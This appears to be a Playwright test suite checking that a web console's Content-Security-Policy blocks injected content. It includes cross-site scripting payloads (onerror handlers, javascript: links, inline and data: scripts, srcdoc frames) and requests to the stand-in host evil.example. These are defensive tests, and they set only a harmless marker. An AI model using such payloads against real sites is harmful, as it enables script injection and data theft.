"""The Content-Security-Policy in real Chromium: the console never strikes against it, and what somebody else
puts into a page does not run. What a browser reports of its policy is taken from its own events.
"""

import asyncio
import io

import pytest
import soundfile
from playwright.async_api import Browser, Page, Route, expect

from .conftest import RATE, House, Sound
from .test_newcomer import DESK, chromium, enrolment_text, log_in, make_announcer, menu, opened

REPORTER = """
document.addEventListener('securitypolicyviolation', (e) => {
  console.warn(`policy: ${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile ?? ''}:${e.lineNumber}`);
});
"""
HOSTILE = "<img src=x onerror=window.ran='name'><style>*{color:red}</style>"
"""As a place, a program and a loudspeaker may be called."""

RUN = {
    "a script in the page": """() => {
        const script = document.createElement('script');
        script.textContent = "window.ran = 'script'";
        document.body.append(script);
    }""",
    "an event handler": """() => document.body.insertAdjacentHTML(
        'beforeend', `<img src="/nothing.png" onerror="window.ran = 'handler'">`)""",
    "a link that is a script": """() => {
        document.body.insertAdjacentHTML(
            'beforeend', `<a id="evil" href="javascript:void(window.ran='link')">x</a>`);
        document.getElementById('evil').click();
    }""",
    "text that is run": """() => { setTimeout("window.ran = 'text'", 0); }""",
    "a script of elsewhere": """() => {
        const script = document.createElement('script');
        script.src = 'data:text/javascript,window.ran="elsewhere"';
        document.body.append(script);
    }""",
    "a frame that is a script": """() => document.body.insertAdjacentHTML(
        'beforeend', `<iframe srcdoc="<script>parent.ran='frame'</script>"></iframe>`)""",
}
"""Each would leave a word in `window.ran`."""

SENT = {
    "words sent elsewhere": """() => {
        fetch('https://evil.example/').catch(() => {});
    }""",
    "a form sent elsewhere": """() => {
        document.body.insertAdjacentHTML('beforeend', '<form id="out" action="https://evil.example/"></form>');
        document.getElementById('out').submit();
    }""",
    "another base of all links": """() => document.head.insertAdjacentHTML(
        'beforeend', '<base href="https://evil.example/">')""",
}
"""Each would hand something to another site."""


def reported(page: Page) -> list[str]:
    """What Chromium says of the policy from now on, over reloads too."""
    found: list[str] = []
    page.on(
        "console",
        lambda line: (
            found.append(line.text)
            if "policy: " in line.text or "Content Security Policy" in line.text
            else None
        ),
    )
    return found


async def stocked(house: House, speech: dict[str, Sound]) -> None:
    """A territory and a recording with names that would be a page of their own."""
    province = (await house.api("GET", "/places"))[0]["id"]
    commune = await house.api.place("Xã Bắc Hòa", "commune", province)
    await house.api.place(HOSTILE, "hamlet", commune)
    wav = io.BytesIO()
    soundfile.write(wav, speech["Front_Center"], RATE, format="WAV")
    program = await house.api.upload(HOSTILE, wav.getvalue())
    seat = {"place": commune, "name": HOSTILE[:60]}
    await house.api("POST", "/enrolments", seat)
    source = {"kind": "file", "program": program}
    order = {"source": source, "targets": [commune], "severity": "minor", "title": HOSTILE[:60]}
    await house.api("POST", "/emergencies", order)


async def closed(page: Page, sheet: str) -> None:
    await page.keyboard.press("Escape")
    await expect(page.get_by_test_id(sheet)).to_have_count(0)


async def look_at_security(page: Page) -> None:
    await menu(page, "go-security")
    await page.get_by_test_id("factor-add").click()
    await page.get_by_test_id("choose-totp").click()
    await expect(page.get_by_test_id("totp-qr")).to_be_visible()
    await closed(page, "add-factor")
    await page.get_by_test_id("token-add").click()
    await expect(page.get_by_test_id("token-name")).to_be_visible()
    await closed(page, "new-token")
    await expect(page.get_by_test_id("session")).not_to_have_count(0)


async def look_at_administration(page: Page) -> None:
    await make_announcer(page, "Xã Bắc Hòa")
    for part, shown in (("roles", "role"), ("audit", "audit-entry"), ("keys", "grant")):
        await page.get_by_test_id(f"admin-{part}").click()
        await expect(page.get_by_test_id(shown).first).to_be_visible()
    await enrolment_text(page, "Xã Bắc Hòa", "Cụm trước UBND")
    await expect(page.get_by_test_id("open-code").filter(has_text=HOSTILE[:30])).to_have_count(1)


async def look_at_console(page: Page) -> None:
    await expect(page.get_by_test_id("emergency-banner")).to_be_visible()
    await page.get_by_test_id("action-files").click()
    await expect(page.get_by_test_id("program")).to_contain_text(HOSTILE)
    await expect(page.get_by_test_id("place-row").filter(has_text=HOSTILE)).to_have_count(1)
    await page.get_by_test_id("program-listen").click()
    await page.get_by_test_id("program-air").click()
    await page.get_by_test_id("emergency-open").click()
    await expect(page.get_by_test_id("emergency-title")).to_be_visible()
    await closed(page, "emergency")


@pytest.mark.peer
async def test_the_whole_console_keeps_its_own_policy(house: House, speech: dict[str, Sound]) -> None:
    await stocked(house, speech)
    async with chromium() as browser:
        page = await opened(browser, "about:blank", DESK)
        await page.add_init_script(REPORTER)
        struck = reported(page)
        await page.goto(house.url)
        await log_in(page, "admin", house.password)
        await look_at_console(page)
        await look_at_security(page)
        await look_at_administration(page)
        await page.reload()
        await expect(page.get_by_test_id("admin")).to_be_visible()
        assert await page.evaluate("window.ran") is None, "a name has run"
        assert struck == []


async def at_the_door(browser: Browser, house: House, *, policy: bool) -> Page:
    """The log-in page, with its policy or robbed of it."""

    async def rob(route: Route) -> None:
        answer = await route.fetch()
        headers = {k: v for k, v in answer.headers.items() if k != "content-security-policy"}
        await route.fulfill(response=answer, headers=headers)

    page = await opened(browser, "about:blank", DESK)
    if not policy:
        await page.route(house.url + "/", rob)
    await page.goto(house.url)
    await expect(page.get_by_test_id("login-name")).to_be_visible()
    return page


@pytest.mark.peer
async def test_what_somebody_puts_into_the_page_does_not_run(house: House) -> None:
    """As if the page had a hole: the browser holds back what came in by it."""
    async with chromium() as browser:
        for way, attack in (RUN | SENT).items():
            page = await at_the_door(browser, house, policy=True)
            async with page.expect_console_message(lambda line: "Content Security Policy" in line.text):
                await page.evaluate(attack)
            assert await page.evaluate("window.ran") is None, way
            assert (await page.evaluate("document.baseURI")).startswith(house.url), way
            await page.close()


@pytest.mark.peer
async def test_without_the_policy_it_does_run(house: House) -> None:
    """So that the test above could fail."""
    async with chromium() as browser:
        for attack in RUN.values():
            page = await at_the_door(browser, house, policy=False)
            await page.evaluate(attack)
            async with asyncio.timeout(20):
                while not await page.evaluate("window.ran"):  # noqa: ASYNC110 - it asks another process
                    await asyncio.sleep(0.05)
            await page.close()
